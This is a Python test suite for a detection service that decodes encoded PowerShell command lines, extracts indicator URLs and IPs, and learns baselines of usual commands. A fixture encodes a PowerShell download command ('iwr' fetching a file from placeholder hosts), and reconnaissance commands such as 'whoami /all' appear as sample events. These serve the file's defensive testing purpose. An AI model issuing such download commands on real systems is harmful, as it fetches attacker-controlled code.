"""The flagship model over HTTP, as a search head calls it."""

import io
import json

import pandas as pd
import pytest

from app.hunting import baseline, powershell
from tests.bench import rows
from tests.encoding import b64
from tests.running_service import RunningService

LINE = "powershell -enc " + b64("iwr http://192.0.2.1/a -OutFile x; iwr http://example.com/b")
FRAME = pd.DataFrame(
    {
        "_time": range(6),
        "ParentCommandLine": [LINE, "dir", None, "powershell -e !", LINE, 'a,"b"\nc'],
    }
)


def posted(frame: pd.DataFrame) -> str:
    return frame.to_csv(index=False)


def answered(response: dict) -> pd.DataFrame:
    assert response["status"] == "success", response["message"]
    text = io.StringIO(response["results"])
    return pd.read_csv(text, keep_default_na=False, float_precision="round_trip")


@pytest.mark.parametrize("path", ["fit", "apply"])
def test_rows_come_back_in_order_with_every_column(service: RunningService, path: str) -> None:
    data = posted(FRAME[["ParentCommandLine"]])
    assert service.fit(data, "powershell_ioc", "hunt")["status"] == "success"
    result = answered(getattr(service, path)(data, "powershell_ioc", "hunt"))
    assert list(result.columns) == [
        "ParentCommandLine",
        *powershell.columns(),
        *baseline.COLUMNS,
    ]
    assert list(result["ParentCommandLine"]) == [
        LINE,
        "dir",
        "",
        "powershell -e !",
        LINE,
        'a,"b"\nc',
    ]
    assert list(result["decode_status"]) == ["decoded", "none", "none", "error", "decoded", "none"]
    assert list(result["ioc_ipv4"]) == ["192.0.2.1", "", "", "", "192.0.2.1", ""]


def test_field_and_delim_can_be_chosen(service: RunningService) -> None:
    params = {"field": "ParentCommandLine", "delim": '" ; "'}
    result = answered(service.fit(posted(FRAME), "powershell_ioc", "chosen", params=params))
    assert result["ioc_url"][0] == "http://192.0.2.1/a ; http://example.com/b"


def test_numbers_and_an_empty_column_keep_their_rows(service: RunningService) -> None:
    result = answered(service.fit("cmd,x\n1,a\n,b\n2.5,c\n", "powershell_ioc"))
    assert list(result["decode_status"]) == ["none", "none", "none"]


@pytest.mark.parametrize(
    ("params", "message"),
    [
        ({"delimiter": ";"}, "unknown option 'delimiter'; this model has: delim, field, hidden"),
        ({"field": "nope"}, "there is no field 'nope'; the search has: _time, ParentCommandLine"),
        ({"hidden": "maybe"}, "hidden='maybe' is neither true nor false"),
    ],
)
def test_wrong_options_are_explained(
    service: RunningService, params: dict[str, str], message: str
) -> None:
    response = service.fit(posted(FRAME), "powershell_ioc", params=params)
    assert response["status"] == "error"
    assert response["message"].startswith("/fit: ERROR: ")
    assert message in response["message"]


@pytest.mark.skipif(not rows.truth(), reason="../shared/data is not here")
def test_published_commands_in_one_request(service: RunningService) -> None:
    records = rows.truth()
    frame = pd.DataFrame({"command_line": [record["cmd"] for record in records]})
    assert service.fit(posted(frame.head(1)), "powershell_ioc", "published")["status"] == "success"
    result = answered(service.apply(posted(frame), "powershell_ioc", "published"))
    assert list(result["command_line"]) == list(frame["command_line"])
    assert json.loads(service.request("/summary")[1])
    distinct = result.drop_duplicates("command_line")
    shares = rows.accuracy(records, lambda _: distinct)
    assert (shares["decode exact"], shares["url usable"]) == ("100.00%", "100.00%")
    assert float(shares["url in truth"].rstrip("%")) >= 97


def test_carriage_returns_within_a_cell_add_no_row(service: RunningService) -> None:
    data = 'cmd,x\n"dir\rcd",1\nwhoami,2\n'
    response = service.fit(data, "powershell_ioc")
    result = pd.read_csv(io.StringIO(response["results"], newline=""))
    assert list(result["cmd"]) == ["dir\rcd", "whoami"]


def test_a_number_beyond_all_floats_hides_no_row(service: RunningService) -> None:
    data = posted(pd.DataFrame({"cmd": ["1e400999999999999999999999", LINE]}))
    result = answered(service.fit(data, "powershell_ioc"))
    assert list(result["decode_status"]) == ["none", "decoded"]


def test_fit_learns_what_is_usual_and_update_adds_to_it(service: RunningService) -> None:
    events = "_time,host,line\n1780000000,a,whoami /all\n1780000060,b,whoami /all\n"
    later = "_time,host,line\n1780000120,c,net user\n"
    shown = ["first_seen", "seen_count", "hosts_seen", "new"]
    field = {"field": "line"}
    service.fit(events, "powershell_ioc", "usual", params=field)
    before = answered(service.apply(later, "powershell_ioc", "usual"))
    assert before[shown].values.tolist() == [["", 0, 0, "script"]]
    service.fit(later, "powershell_ioc", "usual", params={**field, "update": "true"})
    after = answered(service.apply(later + events.split("\n", 1)[1], "powershell_ioc", "usual"))
    assert after[shown].values.tolist() == [
        ["2026-05-28T20:28:40Z", 1, 1, ""],
        ["2026-05-28T20:26:40Z", 2, 2, ""],
        ["2026-05-28T20:26:40Z", 2, 2, ""],
    ]
